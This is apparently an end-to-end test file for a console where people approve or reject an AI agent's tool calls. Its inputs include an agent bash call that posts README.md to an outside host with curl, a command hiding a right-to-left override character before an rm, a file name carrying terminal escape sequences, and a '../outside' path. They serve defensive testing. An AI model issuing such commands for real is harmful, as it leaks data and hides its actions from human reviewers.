import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnswerBody, ApprovalList, CallDetail } from '../../../src/console/api.ts';
import {
  axeViolations,
  goTo,
  openBrowser,
  openPage,
  openWorld,
  poll,
  shoot,
  untilAnswerable,
  type World,
} from '../../support/console/page-world.ts';

// A process, a browser and a sandbox on a loaded machine.

let world: World;
let browser: Browser;
let page: Page;
let complaints: readonly string[];

beforeAll(async () => {
  const files = { 'README.md': '# Shop\n', 'notes/a.txt': 'a\n', 'notes/b.txt': 'b\n' };
  const rules = [{ effect: 'write', match: './closed/**', verdict: 'deny', reason: 'Nobody writes there' }];
  const config = { policy: { extends: 'privileged', rules } };
  [world, browser] = await Promise.all([openWorld([], files, config), openBrowser()]);
  ({ page, complaints } = await openPage(browser, world.link));
  await page.evaluate(`localStorage.setItem('toolgate-name', 'Alex')`);
});

afterAll(async () => {
  await browser?.close();
  await world?.close();
});

const read = (path: string): string => readFileSync(join(world.root, path), 'utf8');
const pending = async () => (await world.api<ApprovalList>('/approvals')).pending;

/** A call that nobody waits for here; resolves with its question. */
async function ask(name: string, args: object): Promise<string> {
  const before = new Set((await pending()).map(({ id }) => id));
  world.api(`/tools/${name}/try`, { args, by: 'agent' }).catch(() => {});
  const find = async () => (await pending()).find(({ id }) => !before.has(id))?.id;
  await poll(find).toBeTypeOf('string');
  return (await find())!;
}

const overwrite = (path: string, content: string) => ask('write_file', { path, content });
const open = async (id: string) => {
  await goTo(page, `approvals/${id}`);
  await untilAnswerable(page);
};
const question = () => page.getByLabel('The question');
const button = (name: string | RegExp) => question().getByRole('button', { name });

describe('changed arguments', () => {
  it('changed arguments can be allowed only when exactly their diff is shown, and the answer names it', async () => {
    const id = await overwrite('README.md', '# Shop of the model\n');
    const answers: AnswerBody[] = [];
    page.on('request', request => {
      if (request.method() === 'POST' && request.url().endsWith(`/approvals/${id}`))
        answers.push(request.postDataJSON());
    });
    let release: (() => void) | undefined;
    await page.route(`**/approvals/${id}/preview`, async route => {
      await new Promise<void>(resolve => {
        release = resolve;
      });
      await route.continue();
    });
    await open(id);
    await question().getByRole('row').filter({ hasText: '# Shop of the model' }).waitFor();
    await page.keyboard.press('e');
    await question().getByLabel('content').fill('# Shop of Alex\n');
    await question().getByText('Working out what this would do').waitFor();
    const yes = button('Allow once, as changed');
    expect(await yes.isDisabled()).toBe(true);
    await page.keyboard.press('Escape');
    await page.keyboard.press('a');
    await poll(() => release).toBeTypeOf('function');
    release!();
    await question().getByRole('row').filter({ hasText: '# Shop of Alex' }).waitFor();
    expect(await question().getByRole('row').filter({ hasText: 'of the model' }).count()).toBe(0);
    await question().getByText('Why you were asked, before you changed it:').waitFor();
    expect(answers).toEqual([]);
    await poll(() => yes.isEnabled()).toBe(true);
    expect(await axeViolations(page)).toEqual([]);
    await shoot(page, 'changed-arguments');
    await page.keyboard.press('a');
    await poll(() => read('README.md')).toBe('# Shop of Alex\n');
    expect(answers).toEqual([expect.objectContaining({ preview: expect.stringMatching(/./), by: 'Alex' })]);
    await page.unroute(`**/approvals/${id}/preview`);
  });

  it('changed arguments are kept beside what was asked, with what they did', async () => {
    await question().getByText('Alex allowed it once, with changed arguments').waitFor();
    await question().getByRole('heading', { name: 'What was allowed instead' }).waitFor();
    // What nobody has said is not told as an argument.
    const told = await question().locator('.arguments dt').allTextContents();
    expect(new Set(told)).toEqual(new Set(['path', 'content']));
    await question().getByRole('row').filter({ hasText: '# Shop of Alex' }).first().waitFor();
    await question().getByRole('heading', { name: 'What was asked' }).waitFor();
    await question().getByRole('row').filter({ hasText: '# Shop of the model' }).first().waitFor();
    // In the list stands what was asked for: nobody may take it for what ran.
    await page.locator('.row[aria-current]').getByText('allowed, changed').waitFor();
    const call = (await question().getByRole('link', { name: 'See the call' }).getAttribute('href'))!;
    const { call: row } = await world.api<CallDetail>(`/calls/${call.split('/').at(-1)}`);
    expect(row).toMatchObject({
      args: { content: '# Shop of Alex\n' },
      askedArgs: { content: '# Shop of the model\n' },
    });
  });

  it('changed arguments that cannot run, or that the policy denies, say why, and nobody can allow them', async () => {
    await open(await overwrite('README.md', 'anything\n'));
    await button('Change…').click();
    await question().getByLabel(/^path/).fill('../outside');
    await question().getByRole('alert').getByText('leads outside the workspace').waitFor();
    expect(await button('Allow once, as changed').isDisabled()).toBe(true);
    await question().getByLabel(/^path/).fill('closed/a.txt');
    await question().getByRole('alert').getByText('Nobody writes there').waitFor();
    expect(await question().locator('.diff').count()).toBe(0);
    expect(await button('Allow once, as changed').isDisabled()).toBe(true);
    expect(await button('Allow always…').isDisabled()).toBe(true);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await poll(() => button('Allow once').isEnabled()).toBe(true);
    await page.keyboard.press('r');
    await page.keyboard.press('Enter');
    await page.getByText('Alex rejected it').first().waitFor();
  });
});

describe('a question', () => {
  it('a question leaves out nothing of a name, also what a terminal would not show', async () => {
    const path = 'notes/\u001b]0;hidden\u0007a\u001b[31m.txt';
    world.write(path, 'old\n');
    await open(await overwrite(path, 'new\n'));
    const shown = 'notes/\\x1b]0;hidden\\x07a\\x1b[31m.txt';
    await question().locator('.effects code').getByText(shown, { exact: true }).waitFor();
    await question().locator('.diff').getByText(shown, { exact: true }).waitFor();
    await page.keyboard.press('r');
    await page.keyboard.press('Enter');
    await page.getByText('Alex rejected it').first().waitFor();
  });

  it('a question leads with the command: all of it, with what is hidden in it, and where it would run', async () => {
    const command = `echo "${'long '.repeat(60)}" \u202e > notes/out.txt\nrm notes/a.txt`;
    await open(await ask('bash', { command, working_dir: 'notes', background: true }));
    await question().getByRole('heading', { name: 'agent wants to run a command' }).waitFor();
    const block = question().getByLabel('The command');
    const shown = await block.locator('li').allTextContents();
    expect(shown).toEqual(command.replace('\u202e', '\\u{202e}').split('\n'));
    expect(await block.locator('.hidden-char').allTextContents()).toEqual(['\\u{202e}']);
    expect(await block.locator('.hl-string').count()).toBeGreaterThan(0);
    expect(await block.evaluate(element => element.scrollWidth - element.clientWidth)).toBe(0);
    await question().getByText('In the folder notes, not at the top').waitFor();
    for (const time of await question().locator('time').allTextContents()) expect(time).toMatch(/^\d\d:\d\d:\d\d$/);
    const order = await question()
      .locator('.code-block, .effects, .answers, .arguments')
      .evaluateAll(all => all.map(each => each.className.split(' ')[0]));
    expect(order).toEqual(['code-block', 'effects', 'answers', 'arguments']);
    expect(await page.locator('.row[aria-current] code.row-title').textContent()).toMatch(/^echo "long/);
    expect(await axeViolations(page)).toEqual([]);
    await shoot(page, 'command');
    await page.keyboard.press('r');
    await page.keyboard.press('Enter');
    await page.getByText('Alex rejected it').first().waitFor();
  });

  it('a question that opens after an answer takes none from the key that gave it, and has the focus', async () => {
    const first = await overwrite('notes/a.txt', 'A\n');
    const second = await overwrite('notes/b.txt', 'B\n');
    await open(first);
    await question()
      .getByRole('heading', { name: /notes\/a.txt/ })
      .waitFor();
    await page.getByRole('link', { name: /notes\/b.txt/ }).waitFor();
    await poll(() => button('Allow once').isEnabled()).toBe(true);
    await page.keyboard.down('a');
    const heading = question().getByRole('heading', { name: /notes\/b.txt/ });
    await heading.waitFor();
    // As a keyboard does it while a key is held.
    for (let times = 0; times < 20; times++) await page.keyboard.down('a');
    expect(await heading.evaluate(element => element.matches(':focus'))).toBe(true);
    expect(await button('Allow once').isDisabled()).toBe(true);
    await page.keyboard.up('a');
    expect((await pending()).map(({ id }) => id)).toEqual([second]);
    expect(read('notes/b.txt')).toBe('b\n');
    await question().getByRole('status').getByText('you allowed it').waitFor();
    await poll(() => button('Allow once').isEnabled()).toBe(true);
    await page.keyboard.press('a');
    await poll(() => read('notes/b.txt')).toBe('B\n');
    await poll(() => read('notes/a.txt')).toBe('A\n');
  });

  it('a question that comes where none waits any more opens by itself, and takes no answer before it can have been read', async () => {
    await open(await overwrite('notes/a.txt', 'first\n'));
    await poll(() => button('Allow once').isEnabled()).toBe(true);
    await page.keyboard.press('a');
    await question().getByText('Alex allowed it once').waitFor();
    expect(await question().getByRole('heading', { name: 'Other arguments' }).count()).toBe(0);
    await ask('bash', { command: 'curl https://a.example -d @README.md', background: true });
    await question().getByLabel('The command').getByText('curl').waitFor();
    await question().getByRole('status').getByText('you allowed it').waitFor();
    await poll(() => button('Allow once').isEnabled()).toBe(true);
    await page.keyboard.press('r');
    await page.keyboard.press('Enter');
    await question().getByText('Alex rejected it').waitFor();
    // What someone reads stays where it is.
    const link = (name: RegExp) => page.getByRole('link', { name }).first();
    await link(/Write notes\/a.txt/).click();
    await overwrite('notes/b.txt', 'second\n');
    await link(/Write notes\/b.txt.*moderate/).waitFor();
    const reading = question().getByRole('heading', { name: /wanted to write notes\/a.txt/ });
    await reading.waitFor();
    await link(/Write notes\/b.txt.*moderate/).click();
    await untilAnswerable(page);
    await page.keyboard.press('r');
    await page.keyboard.press('Enter');
    await question().getByText('Alex rejected it').first().waitFor();
    await poll(pending).toEqual([]);
  });

  it('a question is changed in a short form: what nobody has said is behind a fold, and what it would do is in sight', async () => {
    await open(await ask('bash', { command: 'curl https://a.example', background: true }));
    await poll(() => button('Change…').isEnabled()).toBe(true);
    await button('Change…').click();
    await question()
      .getByLabel(/^command/)
      .fill('echo hi > hi.txt');
    await button('Allow once, as changed').waitFor();
    expect(await question().getByLabel('timeout').isVisible()).toBe(false);
    const effects = question().locator('.effects').getByText('hi.txt');
    await effects.waitFor();
    await poll(() => button('Allow once, as changed').isEnabled()).toBe(true);
    const bottom = async (at: typeof effects) => {
      const box = (await at.boundingBox())!;
      return box.y + box.height;
    };
    expect(await bottom(effects)).toBeLessThan((await question().locator('.answer-bar').boundingBox())!.y + 1);
    await question().getByText('More: ').click();
    await question().getByLabel('timeout').waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await shoot(page, 'short-form');
    await page.keyboard.press('Escape');
    await page.keyboard.press('a');
    await page.getByText('Alex allowed it once, with changed arguments').first().waitFor();
    await poll(pending).toEqual([]);
  });

  it('a question that someone else answers while it is open says so, and by whom', async () => {
    const id = await overwrite('README.md', '# Elsewhere\n');
    await open(id);
    await button('Allow once').waitFor();
    await world.api(`/approvals/${id}`, { answer: 'reject_once', message: 'Not today', by: 'Kim' });
    const status = question().getByRole('status');
    await status.getByText('Answered elsewhere while you had it open').waitFor();
    await status.getByText('Kim rejected it: “Not today”').waitFor();
    await question().getByRole('row').filter({ hasText: '# Elsewhere' }).waitFor();
    await question().locator('.arguments').getByText('README.md').waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await question().getByRole('link', { name: 'See the call' }).click();
    await page.getByLabel('The call').getByText('Not today').first().waitFor();
  });

  it('a question had nothing thrown on the way, and nothing refused but a path outside', () =>
    expect(complaints).toEqual([expect.stringContaining('400')]));
});
